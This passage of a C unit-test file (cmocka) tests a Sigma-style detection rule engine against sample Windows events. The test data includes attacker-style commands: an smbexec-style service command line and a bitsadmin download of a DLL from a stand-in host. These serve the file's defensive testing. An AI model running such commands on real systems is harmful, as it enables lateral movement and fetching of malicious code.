    ev_build(&ev, XF_CAT_SERVICE, XF_F_EVENT_ID, "7045", XF_F_SERVICE_NAME, "XQWRT",
             XF_F_IMAGE_PATH, "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output", -1);
    pack_fires(rs, &ev, "Service Installed With Shell Command As Image Path");
    xf_event_close(&ev);

    ev_build(&ev, PROC("C:\\Windows\\System32\\cmd.exe",
                       "cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1",
                       "C:\\Windows\\System32\\services.exe"));
    pack_fires(rs, &ev, "Services Spawns Shell (Smbexec-Style Service)");
    xf_event_close(&ev);

    ev_build(&ev, PROC("C:\\Windows\\System32\\bitsadmin.exe",
                       "bitsadmin /transfer j /download http://e.example/a.dll C:\\t\\a.dll",
                       "C:\\Windows\\System32\\cmd.exe"));
    pack_fires(rs, &ev, "Bitsadmin Transfer Download");
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
}

static void test_pack_quiet_on_benign_lookalikes(void **state)
{
    struct xf_ruleset *rs = load_pack();
    struct xf_event ev;
    const char *word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    const char *outlook = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";

    (void)state;
    ev_build(&ev, PROC("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                       "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
                       "C:\\Windows\\System32\\svchost.exe"));
    pack_fires(rs, &ev, "");
    xf_event_close(&ev);

    ev_build(&ev, PROC("C:\\Windows\\SysWOW64\\regsvr32.exe",
                       "regsvr32.exe /s \"C:\\Program Files (x86)\\Vendor\\Temp\\plugin.dll\"",
                       "C:\\Windows\\System32\\msiexec.exe"));
    pack_fires(rs, &ev, "");
    xf_event_close(&ev);

    ev_build(&ev, PROC("C:\\Windows\\splwow64.exe", "C:\\Windows\\splwow64.exe 12288", word));
    pack_fires(rs, &ev, "");
    xf_event_close(&ev);

    ev_build(&ev, PROC("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
                       "\"Acrobat.exe\" \"C:\\Users\\akiko\\AppData\\Local\\Microsoft\\Windows\\"
                       "INetCache\\Content.Outlook\\Q1\\newsletter.pdf\"",
                       outlook));
    pack_fires(rs, &ev, "");
    xf_event_close(&ev);

    ev_build(&ev, XF_CAT_FILE, XF_F_IMAGE, word, XF_F_TARGET_FILENAME,
             "C:\\Users\\akiko\\AppData\\Roaming\\Microsoft\\Office\\Recent\\report.docx.LNK", -1);
    pack_fires(rs, &ev, "");
    xf_event_close(&ev);

    ev_build(&ev, XF_CAT_NETWORK, XF_F_IMAGE, outlook, XF_F_DESTINATION_IP, "52.97.1.1",
             XF_F_DESTINATION_PORT, "587", -1);
    pack_fires(rs, &ev, "");
    xf_event_close(&ev);

    ev_build(&ev, XF_CAT_NETWORK, XF_F_IMAGE, "C:\\Windows\\System32\\rundll32.exe",
             XF_F_DESTINATION_IP, "10.0.0.10", XF_F_DESTINATION_PORT, "80", -1);
    pack_fires(rs, &ev, "");
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
}

/* ---- robustness ---------------------------------------------------------------------------- */

static void test_matching_does_not_allocate(void **state)
{
    struct xf_ruleset *rs = rule_with("    CommandLine|re: 'enc [A-Z]+'\n"
                                      "    Image|endswith: 'x.exe'");
    struct xf_event ev;

    (void)state;
    ev_build(&ev, XF_CAT_PROCESS, XF_F_IMAGE, "c:\\x.exe", XF_F_COMMAND_LINE, "-enc ABC", -1);
    xf_alloc_fail_after(0);
    assert_int_equal(xf_ruleset_match(rs, &ev, NULL, NULL), 1);
    xf_alloc_fail_after(-1);
    xf_event_close(&ev);
    xf_ruleset_destroy(rs);
}

/* Fails every allocation in turn while loading a pack rule: no leak, no crash, ENOMEM. */
static void test_load_survives_allocation_failures(void **state)
{
    const char *yaml =
        "title: t\nid: 44444444-4444-4444-8444-444444444444\ntags: [attack.t1105]\n"
        "logsource: {category: process_creation}\ndetection:\n"
        "  a: {CommandLine|windash|contains: [' -enc ', ' -e '], Image|endswith: x}\n"
        "  b: [{CommandLine|re: 'a+b'}, {DestinationIp|cidr: '10.0.0.0/8'}]\n"
        "  c: {CommandLine|wide|base64offset|contains: 'DownloadString'}\n"
        "  condition: a and not b or 1 of c*\n";
    int ok = 0;

    (void)state;
    for (long n = 0; n < 500 && !ok; n++) {
        struct xf_ruleset *rs = NULL;
        struct xf_rule_errors errs = {0};
        int rc;

        xf_alloc_fail_after(n);
        rc = xf_ruleset_load_buffer("t.yml", yaml, strlen(yaml), &rs, &errs);
        xf_alloc_fail_after(-1);
        if (rc == 0) {
            ok = 1;
            assert_int_equal(xf_ruleset_count(rs), 1);
        } else {
            assert_int_equal(rc, XF_ENOMEM);
            assert_null(rs);
        }
        xf_ruleset_destroy(rs);
        xf_rule_errors_close(&errs);
    }
    assert_true(ok);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_plain_value_is_case_insensitive_equality),
        cmocka_unit_test(test_wildcards_and_escapes),
        cmocka_unit_test(test_contains_startswith_endswith),
        cmocka_unit_test(test_list_is_or_and_all_is_and),
        cmocka_unit_test(test_re_is_case_sensitive_unless_i),
        cmocka_unit_test(test_cidr_ipv4_ipv6_and_mapped),
        cmocka_unit_test(test_windash_matches_every_dash),
        cmocka_unit_test(test_base64offset_matches_at_each_offset),
        cmocka_unit_test(test_wide_base64offset_finds_powershell_enc_payload),
        cmocka_unit_test(test_null_means_absent_and_exists),
        cmocka_unit_test(test_numbers_compare_as_strings),
        cmocka_unit_test(test_multi_valued_field_matches_any_value),
        cmocka_unit_test(test_keywords_search_keyword_fields),
        cmocka_unit_test(test_cased_is_case_sensitive),
        cmocka_unit_test(test_field_aliases_resolve_to_our_fields),
        cmocka_unit_test(test_condition_precedence_not_and_or),
        cmocka_unit_test(test_condition_of_forms),
        cmocka_unit_test(test_condition_list_is_or),
        cmocka_unit_test(test_selection_list_of_maps_is_or_of_ands),
        cmocka_unit_test(test_tags_become_techniques_and_tactics),
        cmocka_unit_test(test_logsource_category_restricts_rules),
        cmocka_unit_test(test_error_unknown_modifier),
        cmocka_unit_test(test_error_modifier_conflict),
        cmocka_unit_test(test_error_missing_detection_and_condition),
        cmocka_unit_test(test_error_unknown_selection),
        cmocka_unit_test(test_error_bad_condition_syntax),
        cmocka_unit_test(test_error_bad_regex_carries_pcre2_message),
        cmocka_unit_test(test_error_unknown_field),
        cmocka_unit_test(test_error_bad_cidr),
        cmocka_unit_test(test_error_wrong_node_type),
        cmocka_unit_test(test_error_unknown_category_and_level),
        cmocka_unit_test(test_error_yaml_syntax_has_line),
        cmocka_unit_test(test_error_duplicate_rule_id_in_file),
        cmocka_unit_test(test_broken_file_is_skipped_and_others_load),
        cmocka_unit_test(test_default_dir_honours_environment),
        cmocka_unit_test(test_pack_loads_without_errors),
        cmocka_unit_test(test_pack_fires_on_emotet_outbreak),
        cmocka_unit_test(test_pack_quiet_on_benign_lookalikes),
        cmocka_unit_test(test_matching_does_not_allocate),
        cmocka_unit_test(test_load_survives_allocation_failures),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
